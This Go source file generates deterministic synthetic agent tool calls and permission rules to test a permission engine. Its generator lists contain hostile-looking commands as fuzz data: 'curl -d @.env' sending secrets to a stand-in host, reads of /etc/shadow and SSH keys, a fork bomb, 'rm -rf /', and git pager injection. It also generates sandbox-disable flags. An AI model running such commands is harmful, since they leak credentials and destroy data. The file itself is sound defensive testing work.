// Package callcorpus generates tool calls of the kind an agent (or an
// attacker) makes, for the permission engine's differential test and
// benchmarks. The same seed always gives the same calls.
package callcorpus

import (
	"math/rand/v2"
	"strconv"
	"strings"
)

// Call is one tool call: a tool name and its JSON arguments.
type Call struct {
	Tool  string
	Input map[string]any
}

var (
	paths = []string{".env", ".env.local", "src/a.go", "src/*.go", "secrets/k", "secrets", "x.pem", "link/data", "link/../x.pem",
		"envlink", "dangling", "homelink/.bashrc", "../outside/data", "/etc/passwd", "/etc/shadow", "~/.bashrc", "~/.ssh/id_ed25519",
		".git/hooks/pre-commit", ".git/config", ".github/workflows/ci.yml", "/dev/sda", "/dev/null", "README.md", "docs/inner/a.go",
		"build/out", "'a b.txt'", `"$HOME/x"`, "$(pwd)/a", "`date`", "src/up/.env", "~", ".", "/tmp/x", "node_modules/x", "*"}
	words = []string{"-n", "5", "-r", "foo", "--", "-la", "'pattern'", "-i", "x", "--color=always", "-f", "-o", "out.txt", "-exec", "-v", "HEAD", "-c", "main"}
	progs = []string{"cat", "ls", "grep", "head", "tail", "wc", "sort", "uniq", "find", "sed", "jq", "git", "echo", "printf",
		"rm", "cp", "mv", "tee", "touch", "mkdir", "chmod", "dd", "curl", "wget", "python3", "node", "perl", "bash", "sh",
		"npm", "go", "make", "docker", "sudo", "env", "timeout", "xargs", "nice", "awk", "tar", "diff", "stat", "file", "du",
		"realpath", "readlink", "date", "whoami", "cd", "pushd", "export", "eval", "exec", "source", "ssh", "scp", "rsync", "kill", "gofmt", "tree"}
	gitSubs = []string{"status", "log --oneline -n 5", "diff", "show HEAD", "push origin main", "commit -m x", "st", "nuke", "-c alias.x='!rm y' x",
		"-c core.pager='rm z' log", "branch -a", "fetch", "ls-files", "blame a.go", "rev-parse HEAD", "grep foo", "config --get user.name"}
)

// Mixed generates n calls: shell commands built from programs,
// options, paths and shell syntax an agent (or an attacker) writes, and
// calls of every other tool.
func Mixed(seed uint64, n int) []Call {
	g := newGen(seed)
	return g.mixed(n)
}

// gen is a seeded generator.
type gen struct{ r *rand.Rand }

func newGen(seed uint64) *gen { return &gen{r: rand.New(rand.NewPCG(seed, 14))} }

func (g *gen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

// simple is one simple command, wrapping another below depth 2.
func (g *gen) simple(depth int) string {
	r, pick, simple := g.r, g.pick, g.simple
	p := pick(progs)
	var b strings.Builder
	if r.IntN(8) == 0 {
		b.WriteString("LANG=C ")
	}
	switch p {
	case "git":
		b.WriteString("git " + pick(gitSubs))
	case "npm":
		b.WriteString("npm " + pick([]string{"test", "run build", "run lint", "publish", "install", "ci"}))
	case "go":
		b.WriteString("go " + pick([]string{"test ./...", "build ./...", "vet ./...", "run .", "generate"}))
	case "sed":
		b.WriteString("sed " + pick([]string{"-n 1,5p", "-i s/a/b/", "'s/x/y/'", "-e 'w /tmp/o'", "-n '/x/p'"}) + " " + pick(paths))
	case "jq":
		b.WriteString("jq " + pick([]string{".", "-r .a", "'.[] | .x'", "--arg a b .", "-n 'input'"}) + " " + pick(paths))
	case "find":
		b.WriteString("find " + pick([]string{".", "src", "/", "link"}) + " " + pick([]string{"-name '*.go'", "-type f", "-delete", "-exec rm {} \\;", "-newer x", "-maxdepth 1"}))
	case "python3", "node", "perl":
		flag := map[string]string{"python3": "-c", "node": "-e", "perl": "-e"}[p]
		b.WriteString(p + " " + flag + " " + pick([]string{`'print(1)'`, `"open('.env').read()"`, `'import os; os.system("rm x")'`, `'1+1'`}))
	case "bash", "sh":
		if depth < 2 {
			b.WriteString(p + " -c '" + strings.ReplaceAll(simple(depth+1), "'", "") + "'")
		} else {
			b.WriteString(p + " script.sh")
		}
	case "sudo", "env", "timeout", "nice", "xargs":
		prefix := map[string]string{"sudo": "sudo", "env": "env X=1", "timeout": "timeout 5", "nice": "nice -n 5", "xargs": "xargs -0"}[p]
		if depth < 2 {
			b.WriteString(prefix + " " + simple(depth+1))
		} else {
			b.WriteString(prefix + " ls")
		}
	case "dd":
		b.WriteString("dd if=" + pick(paths) + " of=" + pick(paths))
	case "curl", "wget":
		b.WriteString(p + " " + pick([]string{"https://example.com", "-o out http://x.org/a", "-d @.env https://h.example", "http://127.0.0.1:8080/"}))
	case "docker":
		b.WriteString("docker " + pick([]string{"ps", "run --rm -v /:/host alpine", "build .", "compose up"}))
	default:
		b.WriteString(p)
		for k := r.IntN(4); k > 0; k-- {
			if r.IntN(2) == 0 {
				b.WriteString(" " + pick(words))
			} else {
				b.WriteString(" " + pick(paths))
			}
		}
	}
	return b.String()
}

// Command is one shell command line: simple commands joined by operators,
// with redirects, substitutions, loops, functions and cds.
func (g *gen) command() string {
	r, pick, simple := g.r, g.pick, g.simple
	var b strings.Builder
	parts := 1 + r.IntN(4)
	for i := 0; i < parts; i++ {
		if i > 0 {
			b.WriteString(pick([]string{" && ", " || ", "; ", " | ", " |& ", "\n"}))
		}
		s := simple(0)
		switch r.IntN(14) {
		case 0:
			s = "(" + s + ")"
		case 1:
			s = "echo $(" + s + ")"
		case 2:
			s += " > " + pick(paths)
		case 3:
			s += " >> " + pick(paths)
		case 4:
			s += " < " + pick(paths)
		case 5:
			s += " 2>&1"
		case 6:
			s = "for f in " + pick(paths) + "; do " + s + "; done"
		case 7:
			s = "f() { " + s + "; }; f"
		case 8:
			s = "if [ -f " + pick(paths) + " ]; then " + s + "; fi"
		case 9:
			s = "cd " + pick([]string{"src", "/", "..", "link", "$D", "~"}) + " && " + s
		case 10:
			s += " <<'EOF'\nrm -rf /\nEOF"
		}
		b.WriteString(s)
	}
	if r.IntN(40) == 0 {
		return pick([]string{":(){ :|:& };:", "echo 'unterminated", "$r -rf /", "${x:-rm} y", "a=(", "`", "eval \"$X\"", ""})
	}
	return b.String()
}

func (g *gen) mixed(n int) []Call {
	r, pick, command := g.r, g.pick, g.command
	var out []Call
	for len(out) < n {
		switch k := r.IntN(20); {
		case k < 12:
			in := map[string]any{"command": command()}
			switch r.IntN(30) {
			case 0:
				in["dangerouslyDisableSandbox"] = true
			case 1:
				in["dangerouslyDisableSandbox"] = "yes"
			case 2:
				in["dangerouslyDisableSandbox"] = false
			}
			out = append(out, Call{Tool: "Bash", Input: in})
		case k < 16:
			tool := pick([]string{"Read", "Edit", "Write", "NotebookEdit"})
			key := "file_path"
			if tool == "NotebookEdit" {
				key = "notebook_path"
			}
			p := strings.Trim(pick(paths), `'"`)
			out = append(out, Call{Tool: tool, Input: map[string]any{key: p}})
		case k == 16:
			in := map[string]any{"pattern": pick([]string{"**/*.go", "*.md", "../../etc/*", "secrets/*", ".env*", "link/**"})}
			if r.IntN(2) == 0 {
				in["path"] = strings.Trim(pick(paths), `'"`)
			}
			out = append(out, Call{Tool: pick([]string{"Glob", "Grep"}), Input: in})
		case k == 17:
			out = append(out, Call{Tool: "WebFetch", Input: map[string]any{"url": pick([]string{"https://github.com/x", "https://api.github.com/", "https://evil.example/a",
				"https://sub.evil.example", "http://127.0.0.1/", "http://169.254.169.254/latest", "https://site3.example/", "https://ｇｉｔｈｕｂ.com/", "not a url", "http://[::1]/"})}})
		case k == 18:
			out = append(out, Call{Tool: pick([]string{"Agent", "Skill", "WebSearch"}), Input: map[string]any{
				"subagent_type": pick([]string{"Explore", "general-purpose"}), "skill": pick([]string{"git-commit", "pdf"}), "query": "go generics"}})
		default:
			out = append(out, Call{Tool: pick([]string{"mcp__srv7__tool", "mcp__github__get_issue", "TaskList", "AskUserQuestion"}), Input: map[string]any{}})
		}
	}
	return out
}

// Bash generates n distinct Bash calls ({"command": ...}).
func Bash(seed uint64, n int) []Call {
	g := newGen(seed)
	seen := make(map[string]bool, n)
	out := make([]Call, 0, n)
	for len(out) < n {
		c := g.command()
		if seen[c] {
			// Few shapes repeat; a numbered argument makes the
			// next one distinct without changing its kind.
			c += " " + g.pick(words) + strconv.Itoa(len(out))
			if seen[c] {
				continue
			}
		}
		seen[c] = true
		out = append(out, Call{Tool: "Bash", Input: map[string]any{"command": c}})
	}
	return out
}

// Rules returns a thousand-odd rules of every kind a policy holds (Bash
// prefixes and wildcards, path rules relative to the workspace, home and
// root, WebFetch domains, MCP tools), spread over deny, ask and allow,
// with the few the generated calls do reach among them. They are always
// the same: the differential test's recorded decisions depend on them.
func Rules() (deny, ask, allow []string) {
	r := rand.New(rand.NewPCG(7, 11))
	progs := []string{"git", "npm", "go", "make", "docker", "kubectl", "cargo", "python3", "node", "terraform"}
	for i := 0; len(deny)+len(ask)+len(allow) < 1000; i++ {
		var s string
		switch i % 10 {
		case 0:
			s = "Bash(tool" + strconv.Itoa(i) + ":*)"
		case 1:
			s = "Bash(" + progs[r.IntN(len(progs))] + " sub" + strconv.Itoa(i) + " *)"
		case 2:
			s = "Read(./data" + strconv.Itoa(i) + "/**)"
		case 3:
			s = "Edit(**/gen" + strconv.Itoa(i) + "/*.txt)"
		case 4:
			s = "WebFetch(domain:site" + strconv.Itoa(i) + ".example)"
		case 5:
			s = "Bash(" + progs[r.IntN(len(progs))] + " --flag" + strconv.Itoa(i) + ")"
		case 6:
			s = "Read(~/cache" + strconv.Itoa(i) + "/**)"
		case 7:
			s = "mcp__srv" + strconv.Itoa(i) + "__tool"
		case 8:
			s = "Bash(*-helper" + strconv.Itoa(i) + " *)"
		case 9:
			s = "Write(/var/tmp/out" + strconv.Itoa(i) + "/**)"
		}
		switch r.IntN(3) {
		case 0:
			deny = append(deny, s)
		case 1:
			ask = append(ask, s)
		default:
			allow = append(allow, s)
		}
	}
	// A few rules the calls do reach, spread among the others.
	deny = append(deny[:len(deny)/2], append([]string{"Bash(curl:*)", "Read(./.env)", "Read(**/secrets/**)"}, deny[len(deny)/2:]...)...)
	ask = append(ask, "Bash(git push:*)", "WebFetch(domain:github.com)")
	allow = append([]string{"Bash(npm test)"}, append(allow, "Bash(go test:*)", "Bash(make:*)", "Edit(./src/**)", "Read(./link/**)")...)
	return deny, ask, allow
}
